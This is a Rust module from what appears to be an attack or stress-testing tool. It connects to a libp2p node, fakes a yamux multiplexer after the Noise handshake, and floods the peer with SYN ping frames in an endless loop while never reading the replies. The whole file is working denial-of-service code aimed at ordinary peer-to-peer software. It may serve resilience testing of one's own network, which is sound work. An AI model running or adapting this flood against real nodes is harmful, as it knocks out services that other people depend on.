//! Pings as fast as they are taken, and a window that is closed: nothing that comes back is read.
//!
//! No multiplexer that keeps to its protocol does so, so there is none: frames are written to the encrypted connection.

use std::pin::Pin;
use std::sync::Arc;
use std::task::{Context, Poll};

use anyhow::Result;
use futures::future::{Ready, ready};
use futures::io::Cursor;
use futures::{AsyncRead, AsyncWrite, AsyncWriteExt as _};
use libp2p::core::muxing::{StreamMuxer, StreamMuxerEvent};
use libp2p::core::transport::{DialOpts, PortUse};
use libp2p::core::upgrade::{InboundConnectionUpgrade, OutboundConnectionUpgrade, UpgradeInfo, Version};
use libp2p::core::{Endpoint, Transport as _};
use libp2p::identity::Keypair;
use libp2p::multiaddr::Protocol;
use libp2p::{Multiaddr, noise, tcp};

use super::AttackContext;

/// What is written at once.
const PINGS: u32 = 4096;
/// A ping that wants an answer: version 0, type 2, flag SYN, stream 0.
const PING: [u8; 8] = [0, 2, 0, 1, 0, 0, 0, 0];

trait RawSocket: AsyncRead + AsyncWrite + Unpin + Send {}
impl<S: AsyncRead + AsyncWrite + Unpin + Send> RawSocket for S {}

/// A connection as it is, in the place of a multiplexer.
struct Raw(Box<dyn RawSocket>);

/// Takes the connection.
#[derive(Clone, Copy)]
struct TakeRaw;

impl UpgradeInfo for TakeRaw {
    type Info = &'static str;
    type InfoIter = std::iter::Once<Self::Info>;

    fn protocol_info(&self) -> Self::InfoIter {
        std::iter::once("/yamux/1.0.0")
    }
}

impl<S: RawSocket + 'static> InboundConnectionUpgrade<S> for TakeRaw {
    type Output = Raw;
    type Error = std::io::Error;
    type Future = Ready<std::io::Result<Raw>>;

    fn upgrade_inbound(self, socket: S, _: Self::Info) -> Self::Future {
        ready(Ok(Raw(Box::new(socket))))
    }
}

impl<S: RawSocket + 'static> OutboundConnectionUpgrade<S> for TakeRaw {
    type Output = Raw;
    type Error = std::io::Error;
    type Future = Ready<std::io::Result<Raw>>;

    fn upgrade_outbound(self, socket: S, _: Self::Info) -> Self::Future {
        ready(Ok(Raw(Box::new(socket))))
    }
}

/// It is one in name only: there are no streams.
impl StreamMuxer for Raw {
    type Substream = Cursor<Vec<u8>>;
    type Error = std::io::Error;

    fn poll_inbound(self: Pin<&mut Self>, _: &mut Context<'_>) -> Poll<std::io::Result<Self::Substream>> {
        Poll::Pending
    }

    fn poll_outbound(self: Pin<&mut Self>, _: &mut Context<'_>) -> Poll<std::io::Result<Self::Substream>> {
        Poll::Pending
    }

    fn poll_close(self: Pin<&mut Self>, _: &mut Context<'_>) -> Poll<std::io::Result<()>> {
        Poll::Ready(Ok(()))
    }

    fn poll(self: Pin<&mut Self>, _: &mut Context<'_>) -> Poll<std::io::Result<StreamMuxerEvent>> {
        Poll::Pending
    }
}

/// Until the other end ends it.
pub(super) async fn ping_and_read_nothing(shared: &Arc<AttackContext>, keypair: &Keypair) -> Result<()> {
    let mut socket = dial(keypair, shared.address.clone()).await?;
    let pings: Vec<u8> = (0..PINGS).flat_map(|number| [&PING[..], &number.to_be_bytes()].concat()).collect();
    loop {
        socket.write_all(&pings).await?;
        socket.flush().await?;
        shared.counters.act();
    }
}

async fn dial(keypair: &Keypair, address: Multiaddr) -> Result<Box<dyn RawSocket>> {
    // A transport knows who answers, and not who should.
    let address: Multiaddr = address.iter().filter(|part| !matches!(part, Protocol::P2p(_))).collect();
    let mut transport = tcp::tokio::Transport::new(tcp::Config::default().nodelay(true))
        .upgrade(Version::V1)
        .authenticate(noise::Config::new(keypair)?)
        .multiplex(TakeRaw);
    let opts = DialOpts { role: Endpoint::Dialer, port_use: PortUse::New };
    let (_, Raw(socket)) = transport.dial(address, opts)?.await?;
    Ok(socket)
}
